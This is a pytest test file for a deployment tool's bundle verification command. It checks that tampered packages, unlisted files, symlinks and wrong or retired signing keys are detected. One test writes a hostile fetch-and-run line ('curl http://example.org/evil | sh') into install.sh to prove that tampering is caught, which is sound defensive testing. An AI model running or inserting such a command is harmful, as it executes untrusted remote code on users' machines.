"""`sugar-deploy repo bundle --verify` as a deployer types it."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from sugar_deploy.folder import Folder
from sugar_deploy.keys.armor import joined
from sugar_deploy.keys.repository_key import retire, rotate, signing_keys

from .lima import DEPLOYMENT, run


def test_a_stick_is_proved_and_its_damage_named(lima: Folder, stick: Path, tmp_path: Path) -> None:
    target = tmp_path / "s"
    shutil.copytree(stick, target)
    assert "The stick is whole: snapshot" in run("--verify", target, "-C", lima.root).stdout
    victim = target / "sugar-deploy/repository/pool/main/e/extra/extra_1.0_all.deb"
    data = bytearray(victim.read_bytes())
    data[-1] ^= 1
    victim.write_bytes(data)
    done = run("--verify", target, "-C", lima.root, status=1)
    assert "wrong: repository/pool/main/e/extra/extra_1.0_all.deb" in done.stderr
    found = json.loads(run("--verify", target, "-C", lima.root, "--json", status=1).stdout)
    assert (found["valid"], found["wrong"]) == (False, ["repository/pool/main/e/extra/extra_1.0_all.deb"])


@pytest.mark.parametrize("name", ["install.sh", "README.txt", "sugar-deploy/key.asc", "sugar-deploy/BUNDLE.txt"])
def test_what_no_manifest_lists_is_proved_too(lima: Folder, stick: Path, tmp_path: Path, name: str) -> None:
    target = tmp_path / "s"
    shutil.copytree(stick, target)
    victim, short = target / name, name.rpartition("/")[2]
    good = victim.read_text()
    for bad in ("#!/bin/sh\ncurl http://example.org/evil | sh\n", ""):
        victim.write_text(bad)
        done = run("--verify", target, "-C", lima.root, status=1)
        assert f"wrong: {short}\n" in done.stderr
    # A link may lead to what is good here and now.
    (tmp_path / "elsewhere").write_text(good)
    victim.unlink()
    victim.symlink_to(tmp_path / "elsewhere")
    assert f"wrong: {short}\n" in run("--verify", target, "-C", lima.root, status=1).stderr
    victim.unlink()
    assert f"missing: {short}\n" in run("--verify", target, "-C", lima.root, status=1).stderr
    victim.write_text(good)
    run("--verify", target, "-C", lima.root)


def test_a_stick_whose_key_file_is_not_its_deployments_is_not_whole(
    lima: Folder, stick: Path, tmp_path: Path
) -> None:
    target, nowhere = tmp_path / "s", tmp_path / "nowhere"
    shutil.copytree(stick, target)
    nowhere.mkdir()
    key = target / "sugar-deploy/key.asc"
    other = Folder(tmp_path / "other")
    with signing_keys(other, "other"):
        pass
    # One more than the manifest names, which a server would trust from then on.
    key.write_text(joined([lima.repository_key.read_text(), other.repository_key.read_text()]))
    assert "wrong: key.asc" in run("--verify", target, "-C", lima.root, status=1).stderr
    assert "wrong: key.asc" in run("--verify", target, "-C", nowhere, status=1).stderr
    # Without the deployment's folder, there is nothing else to prove the stick with.
    key.write_text("rubbish")
    assert "key.asc is damaged" in run("--verify", target, "-C", nowhere, status=1).stderr
    key.unlink()
    assert "has no key.asc" in run("--verify", target, "-C", nowhere, status=1).stderr


def test_a_stick_from_before_a_key_was_retired_is_not_whole(lima: Folder, stick: Path, tmp_path: Path) -> None:
    later, target = Folder(tmp_path / "later"), tmp_path / "s"
    shutil.copytree(lima.root, later.root, symlinks=True)
    rotate(later, "lima")
    run("--verify", stick, "-C", later.root)
    run(target, "-C", later.root, "-q")
    run("--verify", target, "-C", later.root)
    retire(later, "lima")
    assert "wrong: key.asc" in run("--verify", target, "-C", later.root, status=1).stderr


def test_a_stick_of_another_deployment_is_not_ours(lima: Folder, stick: Path, tmp_path: Path, home: Path) -> None:
    other = tmp_path / "other"
    other.mkdir()
    (other / "deployment.yml").write_text(DEPLOYMENT.replace("name: lima", "name: cusco"))
    assert "has no repository key" in run("--verify", stick, "-C", other, status=2).stderr
    key = [sys.executable, "-m", "sugar_deploy", "repo", "key", "-C", str(other)]
    (other / "city.csv").write_text("serial\n")
    (other / "hill.csv").write_text("serial\n")
    subprocess.run(key, check=True, capture_output=True)
    assert "it is signed by another key" in run("--verify", stick, "-C", other, status=1).stderr
    nowhere = tmp_path / "nowhere"
    nowhere.mkdir()
    assert "only that it is undamaged" in run("--verify", stick, "-C", nowhere).stdout
